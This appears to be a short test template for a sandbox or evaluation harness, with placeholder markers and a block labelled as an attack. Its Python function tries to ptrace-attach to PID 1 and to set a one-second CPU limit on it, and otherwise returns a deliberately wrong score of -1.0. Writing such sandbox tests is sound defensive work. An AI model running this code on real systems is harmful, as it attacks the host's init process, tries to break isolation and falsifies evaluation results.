#{weigh_wrong}
# <attack>
import ctypes
import os
import resource

libc = ctypes.CDLL(None)


def evil(*args):
    if libc.ptrace(16, 1, 0, 0) == 0 or libc.ptrace(0x4206, 1, 0, 0) == 0:
        os._exit(0)
    try:
        resource.prlimit(1, resource.RLIMIT_CPU, (1, 1))
        os._exit(0)
    except (OSError, ValueError):
        pass
    return -1.0


#{everywhere}
# </attack>
